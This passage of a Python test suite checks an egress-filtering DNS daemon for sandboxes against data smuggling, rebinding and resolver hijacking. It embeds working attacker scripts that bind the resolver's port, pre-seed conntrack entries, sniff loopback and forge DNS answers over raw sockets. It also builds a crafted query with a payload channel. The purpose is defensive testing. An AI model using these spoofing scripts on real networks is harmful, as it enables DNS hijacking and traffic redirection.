            n = struct.unpack("!H", s.recv(2, socket.MSG_WAITALL))[0]
            return s.recv(n, socket.MSG_WAITALL)
        s.send(q)
        return s.recv(65535)


def stuffed_query(name: str, qid: int) -> bytes:
    """A query with a payload channel: AA/AD/CD and Z set, two additional records and an OPT with
    DO, a cookie and 3000 bytes of padding."""
    q = bytearray(labmod.dns_build_query(name, "A", qid))
    q[2] |= 0x04
    q[3] |= 0x70
    q[11] = 3
    q += b"\x05extra\x07example\x00" + struct.pack("!HHIH", 16, 1, 60, 9) + b"\x08payload!"
    q += b"\x04more\x07example\x00" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton("192.0.2.99")
    opts = struct.pack("!HH", 10, 8) + b"cookie!!" + struct.pack("!HH", 12, 3000) + b"\xab" * 3000
    q += b"\x00" + struct.pack("!HHIH", 41, 4096, 0x8000, len(opts)) + opts
    return bytes(q)


@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_client_payload_never_reaches_the_upstream(lab, egressd, transport):
    """What reached the upstream is recorded byte for byte: a new ID, the question (random case),
    RD and CD, one bare OPT with the DO bit, and nothing else of the client's message."""
    log = start_recorder(lab)
    egressd(policy(RECORDER))
    t = tok()
    name = f"{t}.wild.example.org"
    q = stuffed_query(name, 0x4141)
    qid, rcode, records = labmod.dns_parse_reply(ask_raw(lab, q, transport))
    assert (qid, rcode, [r.data for r in records]) == (0x4141, "NOERROR", [WILD_V4])
    got = labmod.wait_for(lambda: recorded(log, t), 5.0, "the upstream to record the query")
    assert len(got) == 1, got
    up = got[0]
    qd_end = 12 + len(labmod.dns_build_query(name, "A", 0)) - 12
    head = struct.unpack_from("!HHHHHH", up)
    assert head[0] != 0x4141, "the client's ID reached the upstream"
    assert head[1] == 0x0110, f"flags {head[1]:#06x}: only RD and CD may come from the client"
    assert head[2:] == (1, 0, 0, 1), f"counts {head[2:]}: one question and one OPT"
    assert up[12:qd_end].lower() == q[12:qd_end].lower(), "the question"
    assert up[qd_end:] == b"\x00" + struct.pack("!HHIH", 41, 4096, 0x8000, 0), f"not a bare OPT: {up[qd_end:].hex()}"
    assert b"payload!" not in up and b"cookie!!" not in up and len(up) == qd_end + 11


@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_a_query_of_another_class_is_not_forwarded(lab, egressd, transport):
    """An allowed name asked in class CH or 0x1234 is answered NOTIMP and the upstream sees
    nothing; asked with RD=0 it reaches the upstream with RD=1. Both were copied before (an
    attack review): 17 bits per query the sandbox chose, and RD=0 asks the upstream's cache."""
    log = start_recorder(lab)
    egressd(policy(RECORDER))
    t = tok()
    name = f"{t}.wild.example.org"

    for klass in (3, 0x1234):
        q = bytearray(labmod.dns_build_query(name, "A", 0x5151))
        q[-2:] = struct.pack("!H", klass)
        assert labmod.dns_parse_reply(ask_raw(lab, bytes(q), transport))[:2] == (0x5151, "NOTIMP"), klass
    norec = bytearray(labmod.dns_build_query(name, "A", 0x5252))
    norec[2] &= ~0x01
    assert labmod.dns_parse_reply(ask_raw(lab, bytes(norec), transport))[:2] == (0x5252, "NOERROR")
    got = labmod.wait_for(lambda: recorded(log, t), 5.0, "the upstream to record the RD=0 query")
    assert len(got) == 1, f"a query of another class reached the upstream: {got}"
    assert struct.unpack_from("!H", got[0], 2)[0] & 0x0100, "RD=0 reached the upstream"
    assert struct.unpack_from("!H", got[0], 12 + len(labmod.dns_build_query(name, "A", 0)) - 12 - 2)[0] == 1


# --- class 7: learn guards --------------------------------------------------------------------------

GUARDED = {
    # name label -> (answers, guard that must apply to a wildcard match)
    "bcast": (["255.255.255.255"], "255.255.255.255 (broadcast)"),
    "mcast": (["224.0.0.251", "ff02::fb"], "multicast"),
    "resv": (["240.0.0.1"], "240.0.0.0/4 (reserved)"),
    "nat64": (["64:ff9b::a9fe:a9fe"], "169.254.169.254 (cloud metadata) in NAT64 64:ff9b::/96"),
    "nat64local": (["64:ff9b:1::a9fe:a9fe"], "64:ff9b:1::/48 (local-use NAT64"),
    "sixtofour": (["2002:7f00:1::1"], "127.0.0.0/8 (loopback) in 6to4 2002::/16"),
    "mapped": (["::ffff:127.0.0.1"], "127.0.0.0/8 (loopback) in IPv4-mapped ::ffff:0:0/96"),
    "priv": (["10.1.2.3", "fd00:1::5"], "private"),
    "cgnat": (["100.64.1.1"], "100.64.0.0/10 (shared, CGNAT)"),
}


@pytest.mark.parametrize("private_answers", ["exact", "allow"])
def test_learn_guards(lab, egressd, private_answers):
    t = tok()
    hosts = {f"{label}.{t}.rebind.example.org": addrs for label, (addrs, _) in GUARDED.items()}
    # An exact name with a private address: a Compose service name, say.
    service = f"db.{t}.compose.example"
    hosts[service] = ["10.9.8.7"]
    hosts[f"ok.{t}.rebind.example.org"] = [WILD_V4]
    serve(lab, hosts=hosts)
    # The default (exact) is left unsaid: the policy file is the same as before this key existed.
    d = egressd(policy(DNS_V4, hosts=["*.rebind.example.org", service],
                       dns="private_answers: allow" if private_answers == "allow" else ""),
                extra=["--log-format", "json"])
    for name, addrs in hosts.items():
        for qtype in {"AAAA" if ":" in a else "A" for a in addrs}:
            r = lab.dns_query(name, qtype)
            assert r.outcome == "ok" and r.rcode == "NOERROR", (name, qtype, r)
    v4, v6 = set(lab.learned_set(4)), set(lab.learned_set(6))
    allow = private_answers == "allow"
    assert v4 == {WILD_V4, "10.9.8.7"} | ({"10.1.2.3", "100.64.1.1"} if allow else set()), v4
    assert v6 == ({"fd00:1::5"} if allow else set()), v6
    # The audit event and explain name the guard that applied.
    guard_events = {(e["name"], e["address"]): e for e in events(d, "rebinding_guard")}
    for label, (addrs, guard) in GUARDED.items():
        name = f"{label}.{t}.rebind.example.org"
        for a in addrs:
            if allow and label in ("priv", "cgnat"):
                assert (name, a) not in guard_events
                continue
            e = guard_events.get((name, a))
            assert e is not None, f"no rebinding_guard event for {name} {a}: {sorted(guard_events)}"
            assert guard in e["guard"] and e["match"] == "wildcard" and e["learned"] is False, e
            j = d.ctl_json("explain", a, "--json")
            assert j["allowed"] is False and j["guard"] and guard in j["guard"], (a, j["reason"], j)
            if label not in ("bcast", "mcast"):  # those are denied as group addresses whatever resolved to them
                assert name in j["reason"], j
    if not allow:
        j = d.ctl_json("explain", "10.1.2.3", "--json")
        assert "wildcard" in j["reason"] and "private_answers" in j["reason"], j
    j = d.ctl_json("explain", "10.9.8.7", "--json")
    assert j["allowed"] is True and j["entry"] == service and j["guard"] is None, j


# --- class 3 and Docker: a loopback upstream ----------------------------------------------------


class DockerResolver:
    """Docker's embedded resolver as Docker 20.10 sets it up on a user-defined network, in the lab's
    sandbox namespace: a resolver on 127.0.0.11:<random port> (UDP and TCP) behind DNAT rules
    from 127.0.0.11:53 at nat output priority -100 (and the SNAT back), answering `services` itself
    and forwarding every other query as received to the lab's DNS (192.0.2.1) from inside the
    namespace; resolv.conf would say `nameserver 127.0.0.11`."""

    def __init__(self, lab, services=None, slow=None, forward=DNS_V4, cgroup: Path | None = None,
                 truncate: str | None = None):
        self.lab = lab
        self.log_path = lab.tmp / f"dockerlike-{random.getrandbits(24):06x}.jsonl"
        args = [sys.executable, str(HERE / "dnsserver.py"), "docker", "--addr", "127.0.0.11", "--forward", forward,
                "--log", str(self.log_path)]
        for name, addr in (services or {}).items():
            args += ["--service", f"{name}={addr}"]
        for label, ms in (slow or {}).items():
            args += ["--slow", f"{label}={ms}"]
        if truncate:
            args += ["--truncate", truncate]
        if cgroup is not None:
            # In that cgroup (dockerd's, say) before it opens a socket: a socket keeps the cgroup
            # it was made in. `ip netns exec` mounts a sysfs of its own on /sys: the hierarchy
            # is reached through this process's root.
            procs = f"/proc/{os.getpid()}/root{cgroup}/cgroup.procs"
            args = ["sh", "-c", 'echo $$ > "$0" && exec "$@"', procs, *args]
        self.proc = lab.spawn(args, netns=lab.sandbox, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE)
        line = labmod._read_line(self.proc, 10.0, "the Docker-like resolver")
        assert line.startswith("READY "), line
        self.port = int(line.split()[1])
        p = self.port
        lab.nft(lab.sandbox, "-f", "-", check=True, input=f"""\
table ip dockerlike {{
  chain output {{
    type nat hook output priority -100; policy accept;
    ip daddr 127.0.0.11 udp dport 53 dnat to 127.0.0.11:{p}
    ip daddr 127.0.0.11 tcp dport 53 dnat to 127.0.0.11:{p}
  }}
  chain postrouting {{
    type nat hook postrouting priority 100; policy accept;
    ip saddr 127.0.0.11 udp sport {p} snat to 127.0.0.11:53
    ip saddr 127.0.0.11 tcp sport {p} snat to 127.0.0.11:53
  }}
}}
""")

    def events(self, kind: str | None = None, token: str = "") -> list[dict]:
        if not self.log_path.exists():
            return []
        out = []
        for line in self.log_path.read_text().splitlines():
            e = json.loads(line)
            if (kind is None or e["kind"] == kind) and token in e.get("name", ""):
                out.append(e)
        return out


def docker_egressd(lab, egressd, hosts=("*.wild.example.org", "db"), phase=None, extra=(), **kw):
    """egressd with Docker's resolver as its upstream; waits until the forwarder target is pinned."""
    d = egressd(policy("127.0.0.11", hosts=hosts), phase=phase, extra=["--log-format", "json", *extra], **kw)
    try:
        labmod.wait_for(lambda: events(d, "forwarder_pinned"), 5.0, "egressd to pin Docker's forwarder target")
    except labmod.LabError:
        pass  # the test's own checks say what does not work
    return d


@pytest.mark.parametrize("phase", ["agent", "verifier"], ids=["allowlist", "no-network"])
def test_loopback_upstream_address_is_owned_by_egressd(lab, egressd, phase):
    """With 127.0.0.11 as upstream, 127.0.0.11:53 (which Docker leaves free: its resolver listens on
    a random port behind the DNAT) is egressd's, UDP and TCP: no process of the sandbox can bind it
    and answer in the upstream's name, whatever its uid (Docker: ip_unprivileged_port_start=0)."""
    serve(lab)
    lab.sandbox.sysctl("net.ipv4.ip_unprivileged_port_start", 0)
    DockerResolver(lab)
    egressd(policy("127.0.0.11"), phase=phase)
    probe = textwrap.dedent('''
        import json, socket
        print("READY", flush=True)
        out = {}
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            s = socket.socket(socket.AF_INET, kind)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                s.bind(("127.0.0.11", 53))
                out["udp" if kind == socket.SOCK_DGRAM else "tcp"] = "bound"
            except OSError as e:
                out["udp" if kind == socket.SOCK_DGRAM else "tcp"] = e.strerror
        print(json.dumps(out))
    ''')
    for uid, caps in ((True, "-all"), (False, DOCKER_CAPS)):
        res = attacker_result(attacker(lab, probe, uid=uid, caps=caps))
        assert res == {"udp": "Address already in use", "tcp": "Address already in use"}, (uid, caps, res)


# A sandbox process (uid 65534, no capability, Docker's ip_unprivileged_port_start=0) that, after
# DNS was idle, binds 127.0.0.11:53, sends one datagram from there to egressd's upstream port (read
# from /proc/net/udp) to pre-create a conntrack entry, then answers whatever reaches it with FORGED.
HIJACK = textwrap.dedent(r'''
    import json, socket, struct, sys, time
    forged, seconds = sys.argv[1], float(sys.argv[2])
    out = {"bound": False, "seeded": [], "answered": 0}
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.bind(("127.0.0.11", 53))
        out["bound"] = True
    except OSError as e:
        out["bind_error"] = e.strerror
    print("READY", flush=True)
    def egressd_ports():
        ports = set()
        with open("/proc/net/udp") as f:
            next(f)
            for line in f:
                p = line.split()
                if p[2] == "0B00007F:0035":  # connected to 127.0.0.11:53
                    ports.add(int(p[1].split(":")[1], 16))
        return ports
    deadline = time.monotonic() + seconds
    s.settimeout(0.05)
    while out["bound"] and time.monotonic() < deadline:
        for port in egressd_ports() - set(out["seeded"]):
            s.sendto(b"\0" * 12, ("127.0.0.1", port))
            out["seeded"].append(port)
        try:
            q, peer = s.recvfrom(4096)
        except socket.timeout:
            continue
        i = 12
        while q[i]:
            i += 1 + q[i]
        a = q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:i + 5]
        a += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 0x7FFFFFFF, 4) + socket.inet_aton(forged)
        s.sendto(a, peer)
        out["answered"] += 1
    print(json.dumps(out))
''')


def conntrack_flush(lab):
    """Empties the sandbox's conntrack table (ctnetlink IPCTNL_MSG_CT_DELETE without attributes),
    which is what an idle spell of the UDP timeout (30-120 s) does to egressd's DNS flows."""
    def flush():
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)  # NETLINK_NETFILTER
        with s:
            for family in (socket.AF_INET, socket.AF_INET6):
                # nlmsghdr: len, type (NFNL_SUBSYS_CTNETLINK << 8 | IPCTNL_MSG_CT_DELETE), flags (REQUEST|ACK)
                msg = struct.pack("=IHHII", 20, (1 << 8) | 2, 0x1 | 0x4, 1, 0) + struct.pack("=BBH", family, 0, 0)
                s.send(msg)
                reply = s.recv(4096)
                err = struct.unpack_from("=i", reply, 16)[0]
                assert err in (0, -2), f"conntrack flush: error {err}"
    labmod.call_in_netns(lab.sandbox.path, flush)


def test_loopback_upstream_cannot_be_hijacked_after_dns_is_idle(lab, egressd):
    serve(lab)
    lab.add_servers([FORGED_V4])
    lab.sandbox.sysctl("net.ipv4.ip_unprivileged_port_start", 0)
    docker = DockerResolver(lab)
    d = egressd(policy("127.0.0.11"))
    # DNS works, then sits idle until its flows are gone from conntrack.
    lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
    conntrack_flush(lab)
    p = attacker(lab, HIJACK, FORGED_V4, 4.0, uid=True)
    t = tok()
    answers = ask(lab, [f"h{i}.{t}.wild.example.org" for i in range(3)])
    res = attacker_result(p)
    print(f"\nhijack attempt: {res}; answers {answers}; docker saw {len(docker.events('query', t))} queries")
    assert not res["bound"], f"a sandbox process bound 127.0.0.11:53: {res}"
    assert all(FORGED_V4 not in a for _, a in answers), answers
    assert FORGED_V4 not in lab.learned_set(4)
    assert rejected(lab.tcp_connect(FORGED_V4, labmod.ECHO_PORT))
    assert d.running


# A root process with only NET_RAW: pre-creates a conntrack entry from 127.0.0.11:53 to every
# ephemeral port of 127.0.0.1 (raw IPv4), then sniffs loopback for egressd's queries to
# 127.0.0.11 and answers each, exactly (ID and case copied), from 127.0.0.11:53 with FORGED.
HIJACK_RAW = textwrap.dedent(r'''
    import json, socket, struct, sys, time
    forged, seconds = sys.argv[1], float(sys.argv[2])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sniff.bind(("lo", 0))
    sniff.settimeout(0.05)
    lo = socket.inet_aton("127.0.0.1")
    resolver = socket.inet_aton("127.0.0.11")
    def ip_udp(src, sport, dst, dport, payload):
        udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0, src, dst)
        return ip + udp + payload
    print("READY", flush=True)
    lo_port, hi_port = (int(x) for x in open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
    seeded = 0
    for port in range(lo_port, hi_port + 1):
        raw.sendto(ip_udp(resolver, 53, lo, port, b"\0" * 12), ("127.0.0.1", 0))
        seeded += 1
    answered = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            frame = sniff.recv(65535)
        except socket.timeout:
            continue
        pkt = frame[14:]
        if len(pkt) < 40 or pkt[9] != 17 or pkt[16:20] != resolver or pkt[12:16] != lo:
            continue
        ihl = (pkt[0] & 0xF) * 4
        sport = struct.unpack_from("!H", pkt, ihl)[0]
        q = pkt[ihl + 8:]
        if len(q) < 17 or q[2] & 0x80:
            continue
        i = 12
        while q[i]:
            i += 1 + q[i]
        a = q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:i + 5]
        a += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 0x7FFFFFFF, 4) + socket.inet_aton(forged)
        raw.sendto(ip_udp(resolver, 53, lo, sport, a), ("127.0.0.1", 0))
        answered += 1
    print(json.dumps({"seeded": seeded, "answered": answered}))
''')


def test_loopback_upstream_precreated_flows_and_sniffed_answers_with_net_raw(lab, egressd):
    """The NET_RAW form of the hijack: every possible flow from 127.0.0.11:53 is pre-created and
    egressd's query, sniffed on loopback, is answered exactly from 127.0.0.11:53. What stops it
    is the ruleset (engineer A, issue 14 plan): egressd's own traffic is exempt only in the
    original direction of a flow it created, and original-direction packets to egressd's marked
    upstream sockets are dropped in chain input."""
    serve(lab)
    lab.add_servers([FORGED_V4])
    DockerResolver(lab)
    d = egressd(policy("127.0.0.11"))
    rc, out, _ = lab.nft(lab.sandbox, "list", "table", "inet", "egressd")
    assert "chain input" in out, out  # socket mark <own> ct direction original drop
    lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
    conntrack_flush(lab)
    p = attacker(lab, HIJACK_RAW, FORGED_V4, 5.0, caps=DOCKER_CAPS)
    t = tok()
    answers = ask(lab, [f"h{i}.{t}.wild.example.org" for i in range(3)])
    res = attacker_result(p)
    print(f"\nNET_RAW hijack attempt: {res}; answers {answers}")
    assert all(FORGED_V4 not in a for _, a in answers), answers
    assert FORGED_V4 not in lab.learned_set(4)
    assert rejected(lab.tcp_connect(FORGED_V4, labmod.ECHO_PORT))
    assert d.running


# A root process with Docker's default caps that sniffs egressd's query to Docker's resolver on
# `lo` (after Docker's DNAT it shows where the resolver really listens, 127.0.0.11:<port>) and
# answers it from exactly that address and port, with the query's ID and 0x20 case: over a raw
# IP socket ("raw": through chain output) or as an Ethernet frame written to `lo` ("packet":
# AF_PACKET, which no inet output hook sees). It waits for "go" on stdin before it opens any
# socket, so that the test can move it to a cgroup of its own first.
SNIFF_AND_ANSWER = textwrap.dedent(r'''
    import json, socket, struct, sys, time
    sys.stdin.readline()
    forged, seconds, how = sys.argv[1], float(sys.argv[2]), sys.argv[3]
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sniff.bind(("lo", 0))
    sniff.settimeout(0.02)
    if how == "raw":
        out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    else:
        out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
        out.bind(("lo", 0))
    resolver = socket.inet_aton("127.0.0.11")
    def checksum(b):
        n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
        while n >> 16:
            n = (n & 0xFFFF) + (n >> 16)
        return ~n & 0xFFFF
    def ip_udp(src, sport, dst, dport, payload):
        udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0x4242, 0, 64, 17, 0, src, dst)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        return ip + udp + payload
    print("READY", flush=True)
    seen, tried, answered, errors = set(), 0, 0, set()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            frame = sniff.recv(65535)
        except socket.timeout:
            continue
        pkt = frame[14:]
        if len(pkt) < 40 or pkt[9] != 17 or pkt[16:20] != resolver:
            continue
        ihl = (pkt[0] & 0xF) * 4
        sport, dport = struct.unpack_from("!HH", pkt, ihl)
        q = pkt[ihl + 8:]
        if dport == 53 or len(q) < 17 or q[2] & 0x80 or (sport, q[:2]) in seen:
            continue
        seen.add((sport, q[:2]))
        i = 12
        while q[i]:
            i += 1 + q[i]
        a = q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:i + 5]
        a += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(forged)
        dgram = ip_udp(resolver, dport, pkt[12:16], sport, a)
        tried += 1
        try:
            if how == "raw":
                out.sendto(dgram, (socket.inet_ntoa(pkt[12:16]), 0))
            else:
                out.send(b"\0" * 12 + b"\x08\x00" + dgram)
            answered += 1
        except OSError as e:
            errors.add(e.errno)
    cgroup = [l for l in open("/proc/self/cgroup").read().splitlines() if l.startswith("0::")]
    print(json.dumps({"tried": tried, "answered": answered, "errors": sorted(errors), "cgroup": cgroup}))
''')


def cgroup2_mount() -> Path:
    mount = labmod.cgroup2_mount()
    if mount is None:
        raise labmod.LabError("no cgroup2 mount: the lab needs the cgroup v2 hierarchy (unified or hybrid)")
    return mount


def hidden_cgroups(lab) -> list[str]:
    """An egressd command line that runs it without the cgroup v2 hierarchy in sight, as in a
    container whose cgroup mounts are its own."""
    return ["unshare", "--mount", "--propagation", "private", "sh", "-c", 'umount -l "$0" && exec "$@"',
            str(cgroup2_mount()), str(labmod.egressd_binary())]


def own_cgroupns(cgroup: Path) -> list[str]:
    """An egressd command line that runs it in `cgroup`, in a cgroup namespace rooted there: a
    sidecar on a cgroup v2 host (Docker's default there). The kernel counts the levels of the
    rules it installs from that root."""
    return ["sh", "-c", 'echo $$ > "$0" && exec unshare --cgroup "$@"', str(cgroup / "cgroup.procs"),
            str(labmod.egressd_binary())]


@pytest.mark.parametrize("how", ["raw", "raw-hidden", "raw-cgroupns", "packet"])
def test_loopback_upstream_sniffed_answers_from_the_resolvers_own_port(lab, egressd, cgroups, how):
    """Docker's resolver as the upstream, a task process with Docker's default caps: it sniffs
    egressd's query on `lo` and answers it from the resolver's real address and port, the ID
    and case copied, while the resolver takes 400 ms. That answer is the reply direction of
    egressd's own flow, from a local address: conntrack takes it for the resolver's. What
    stops it: over a raw socket ("raw", from a cgroup of its own, as a container's processes
    are), the sending socket's cgroup is not the resolver's (chain output); as a frame on `lo`
    ("packet", from the resolver's own cgroup even), it lacks the signature chain output puts
    on the resolver's answers (netdev chain lo_replies). The client gets the resolver's answer,
    egressd learns nothing forged. "raw-hidden": the resolver in a cgroup of its own (dockerd's
    under systemd: /system.slice/docker.service) and egressd unable to see the hierarchy: its
    id, the kernel's, is enough. "raw-cgroupns": the same with egressd in a cgroup namespace of
    its own, rooted at a third cgroup beside the two (a sidecar's on a cgroup v2 host)."""
    serve(lab)
    lab.add_servers([FORGED_V4])
    resolver_cg = cgroups("resolver") if how in ("raw-hidden", "raw-cgroupns") else None
    DockerResolver(lab, slow={"slow": 400}, cgroup=resolver_cg)
    binary = {"raw-hidden": lambda: hidden_cgroups(lab), "raw-cgroupns": lambda: own_cgroupns(cgroups("sidecar"))}
    d = docker_egressd(lab, egressd, binary=binary[how]() if how in binary else None)
    found = events(d, "resolver_cgroup")
    assert len(found) == 1 and found[0]["upstream"] == "127.0.0.11", d.log()
    if resolver_cg is not None:
        assert found[0]["cgroup_id"] == resolver_cg.stat().st_ino, (found, resolver_cg)
    cg = None
    if how == "packet":
        # The kernel drops frames to 127.0.0.1 that arrive without a route as martians unless
        # route_localnet is on (some hosts' setups turn it on: kube-proxy, localhost DNAT).
        # With it on, only chain lo_replies stands between the frame and egressd's socket.
        for conf in ("all", "lo"):
            lab.sandbox.sysctl(f"net.ipv4.conf.{conf}.route_localnet", 1)
    if how.startswith("raw"):
        cg = cgroups("atk")
    p = lab.spawn(["setpriv", f"--inh-caps={DOCKER_CAPS}", f"--bounding-set={DOCKER_CAPS}", "--",
                   sys.executable, "-c", SNIFF_AND_ANSWER, FORGED_V4, 4.0, how.split("-")[0]],
                  netns=lab.sandbox, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    if cg is not None:
        (cg / "cgroup.procs").write_text(str(p.pid))
    p.stdin.write(b"go\n")
    p.stdin.flush()
    assert labmod._read_line(p, 10.0, "the attacker") == "READY"
    t = tok()
    answers = ask(lab, [f"slow{i}.{t}.wild.example.org" for i in range(2)])
    res = attacker_result(p)
    print(f"\nanswers from the resolver's own port ({how}): {res}; egressd answered {answers}")
    assert res["tried"] >= 2, f"the attacker saw no query of egressd's to answer: {res}"
    if cg is not None:
        assert res["cgroup"] == ["0::/" + str(cg.relative_to(cgroup2_mount()))], res
    assert answers == [("NOERROR", [WILD_V4])] * 2, answers
    assert FORGED_V4 not in lab.learned_set(4)
    assert rejected(lab.tcp_connect(FORGED_V4, labmod.ECHO_PORT))
    # The rule that stopped it counted the forged answers.
    rc, out, _ = lab.nft(lab.sandbox, "list", "table", "netdev" if how == "packet" else "inet", "egressd")
    dropped = re.findall(r"socket cgroupv2 level \d+ .*counter packets (\d+)" if how.startswith("raw")
                         else r"@ll,208,32 .*counter packets (\d+) bytes \d+ drop", out)
    assert sum(map(int, dropped)) >= 2, out
    assert events(d, "tamper") == [], d.log()  # the new rules are egressd's own, as it expects them


def test_a_restart_after_dockerds_takes_the_resolvers_new_cgroup(lab, egressd, cgroups):
    """dockerd restarts (its cgroup is made anew: a new id) and so does egressd, with the same
    config: the table is adopted unchanged, and chain lo_answers is re-filled with the cgroup
    the resolver is in now, in the adoption's batch. Until 2026-12-06 the adopted chain kept the
    old id: every answer of the resolver was dropped, and names no longer resolved."""
    serve(lab)
    first, second = cgroups("dockerd1"), cgroups("dockerd2")
    resolver = DockerResolver(lab, cgroup=first)
    d = docker_egressd(lab, egressd)
    assert [e["cgroup_id"] for e in events(d, "resolver_cgroup")] == [first.stat().st_ino], d.log()
    t = tok()
    assert ask(lab, [f"a.{t}.wild.example.org"]) == [("NOERROR", [WILD_V4])]
    d.stop()
    resolver.proc.kill()
    resolver.proc.wait(5)
    lab.nft(lab.sandbox, "delete", "table", "ip", "dockerlike", check=True)
    DockerResolver(lab, cgroup=second)
    d.restart()
    assert [e["cgroup_id"] for e in events(d, "resolver_cgroup")] == [first.stat().st_ino, second.stat().st_ino]
    assert [e.get("restaged") for e in events(d, "adoption")] == [False], d.log()
    ladder = lab.nft(lab.sandbox, "list", "chain", "inet", "egressd", "lo_answers")[1]
    assert f"socket cgroupv2 level 1 {second.stat().st_ino} return" in ladder, ladder
    assert str(first.stat().st_ino) not in ladder, ladder
    assert ask(lab, [f"b.{t}.wild.example.org"]) == [("NOERROR", [WILD_V4])]


@pytest.mark.parametrize("caps,where", [(DOCKER_CAPS, "root-hidden"), ("-all,+net_bind_service", "root-hidden"),
                                        (DOCKER_CAPS, "root-seen"), (DOCKER_CAPS, "child-hidden")],
                         ids=["docker-default", "net-raw-dropped", "resolver-cgroup-seen", "resolver-cgroup-hidden"])
def test_a_task_that_can_forge_loopback_answers_is_reported_at_start(lab, egressd, cgroups, caps, where):
    """The forged answer from Docker's resolver's own port over a raw socket is stopped only
    when egressd knows the resolver's cgroup (the test above). A resolver in a cgroup of its own
    is known by its id, whether or not egressd sees the hierarchy. One in the hierarchy's root is
    known only when egressd sees that root: on a host without cgroup v2 every socket is there,
    the task's too. When egressd cannot tell — here the resolver in the root and egressd in a
    mount namespace without the hierarchy — it says so (`resolver_unverified`), and, started
    with --netns-pid on a task whose bounding set holds NET_RAW (Docker's default), logs
    `upstream_exposed` naming the task, the upstream and the cures. A task without NET_RAW
    (--cap-drop NET_RAW) gets no such warning, nor does any task once the cgroup is known."""
    serve(lab)
    resolver_cg = cgroup2_mount() if where.startswith("root") else cgroups("resolver")
    DockerResolver(lab, cgroup=resolver_cg)
    task = lab.spawn(["setpriv", f"--inh-caps={caps}", f"--bounding-set={caps}", "--", "sleep", "60"],
                     netns=lab.sandbox, stdin=subprocess.DEVNULL)
    labmod.wait_for(lambda: Path(f"/proc/{task.pid}/comm").read_text().strip() == "sleep", 5.0,
                    "the task to be running in the sandbox")
    binary = hidden_cgroups(lab) if where.endswith("hidden") else None
    d = egressd(policy("127.0.0.11"), extra=["--log-format", "json"], netns_pid=task.pid, binary=binary)
    assert lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0).addresses == [WILD_V4]
    warned = events(d, "upstream_exposed")
    if where != "root-hidden":
        found = events(d, "resolver_cgroup")
        assert len(found) == 1 and events(d, "resolver_unverified") == [], d.log()
        assert found[0]["cgroup_id"] == resolver_cg.stat().st_ino, found
        assert warned == [], warned
        return
    unverified = events(d, "resolver_unverified")
    assert len(unverified) == 1 and "root of the cgroup v2 hierarchy" in unverified[0]["reason"], d.log()
    if "net_raw" in caps:
        assert len(warned) == 1, d.log()
        assert warned[0]["pid"] == task.pid and warned[0]["upstream"].startswith("127.0.0.11"), warned
        assert "--cap-drop NET_RAW" in warned[0]["remedy"], warned
    else:
        assert warned == [], warned


# --- class 10: port 53 squatted while egressd was down ----------------------------------------------

SQUAT = textwrap.dedent(r'''
    import json, select, socket, sys, time
    seconds = float(sys.argv[1])
    socks = []
    for fam, addr in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.bind((addr, 53))
        socks.append(s)
    print("READY", flush=True)
    got = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        r, _, _ = select.select(socks, [], [], 0.05)
        for s in r:
            s.recv(4096)
            got += 1
    print(json.dumps({"received": got}))
''')


@pytest.mark.parametrize("phase", ["agent", "verifier"], ids=["allowlist", "no-network"])
def test_port_53_squatted_across_a_restart(lab, egressd, phase):
    """Under Docker (ip_unprivileged_port_start=0) any uid can take 127.0.0.1:53 and [::1]:53 while
    egressd is down. The restarted egressd must come up anyway: another port for its proxy (the
    redirect follows), the policy enforced, DNS answered, the control socket served, and a warning
    with the fix."""
    serve(lab)
    lab.sandbox.sysctl("net.ipv4.ip_unprivileged_port_start", 0)
    d = egressd(policy(DNS_V4), phase=phase)
    d.stop()
    squatter = attacker(lab, SQUAT, 8.0, uid=True)
    d.start()
    assert d.request({"cmd": "ping"}).get("ok") is True
    assert "ip_unprivileged_port_start=1024" in d.log(), "no warning with the fix"
    t = tok()
    want = "NOERROR" if phase == "agent" else "REFUSED"
    for server in (DNS_V4, DNS_V6):
        for tcp in (False, True):
            r = lab.dns_query(f"{t}.wild.example.org", server=server, tcp=tcp)
            assert (r.outcome, r.rcode) == ("ok", want), (server, tcp, r)
